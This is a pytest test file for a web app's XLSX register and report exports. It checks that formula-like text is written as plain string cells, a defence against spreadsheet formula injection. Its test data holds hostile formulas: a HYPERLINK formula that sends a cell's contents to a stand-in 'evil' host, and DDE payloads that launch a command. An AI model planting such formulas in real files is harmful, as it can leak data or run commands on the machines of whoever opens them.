"""Issue 7 item 5: text that looks like a formula is exported as text, in every export."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from korch_pwa.extensions import db
from tests.register_data import make_committee
from tests.report_rows import store_fixture
from tests.xlsx_files import assert_no_formulas, good_row, normal_xlsx, sheet_cells

LINK = '=HYPERLINK("http://evil/?x="&A1,"click")'
HOSTILE_MEMBERS = (
    ("=1+1", LINK, "+สกุล", "-ประธาน", "@SUM(A1:A9)", ""),
    ("นาย", "\t=cmd|' /C calc'!A0", "\r=2+2", " =3+3", "กลุ่มออมทรัพย์", "0812345678"),
)


def _values(data):
    """Return {value: cell} of the XLSX's text cells."""
    return {c.value: c for c in sheet_cells(data) if isinstance(c.value, str)}


def test_register_export_writes_hostile_names_as_text(client, auth, app, world):
    """Members named like formulas come out with the same text, typed as strings."""
    with app.app_context():
        make_committee("520101", members=HOSTILE_MEMBERS)
        db.session.remove()
    auth.login("district_x")
    response = client.get("/register/export.xlsx?area=5201")
    assert response.status_code == 200
    assert_no_formulas(response.data)
    cells = _values(response.data)
    for text in (LINK, "=1+1", "+สกุล", "-ประธาน", "@SUM(A1:A9)"):
        assert cells[text].data_type == "s"
    assert any(v.endswith("=cmd|' /C calc'!A0") for v in cells)
    # Numbers-as-text stay as typed: codes keep their leading digits, phones their dashes.
    assert "520101" in cells and "081-234-5678" in cells


def test_imported_formula_names_round_trip_as_text(client, auth, app, world):
    """A formula typed into the import file is stored and exported as text."""
    auth.login("district_x")
    data = normal_xlsx([good_row(first=LINK[:120]), good_row(first="+1", phone="")])
    response = client.post("/register/import", data={"file": (BytesIO(data), "r.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    exported = client.get("/register/export.xlsx?area=5201").data
    assert_no_formulas(exported)
    assert _values(exported)[LINK].data_type == "s"


def test_import_template_has_no_formulas(client, auth, world):
    auth.login("district_x")
    response = client.get("/register/import/template.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.data)


URL = "/dashboard/report/5201/2570"


@pytest.fixture
def data(app, world):
    """The known report fixture stored as rows."""
    with app.app_context():
        store_fixture(world)
    return world


def test_report_xlsx_writes_hostile_text_as_text(client, auth, data):
    """Problems, suggestions and the reporter starting with = + - @ stay text."""
    typed = {"problems": LINK, "suggestions": "@SUM(1+1)*cmd|' /C calc'!A0",
             "reporter_name": "+66 81 234 5678", "reporter_position": "-1+1"}
    auth.login("district_x")
    assert client.post(URL, data={**typed, "action": "submit"}).status_code == 302
    response = client.get(URL + "/export.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.data)
    cells = _values(response.data)
    for text in typed.values():
        assert cells[text].data_type == "s"
    # The counts are still numbers.
    sheet = load_workbook(BytesIO(response.data)).active
    numbers = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "n"
               and c.value is not None]
    assert numbers and all(isinstance(n, int) for n in numbers)


def test_report_xlsx_of_an_empty_report_writes_dashes_as_text(client, auth, data):
    """With nothing typed, the '-' placeholders are text too."""
    auth.login("district_x")
    response = client.get(URL + "/export.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.data)
    assert _values(response.data)["-"].data_type == "s"
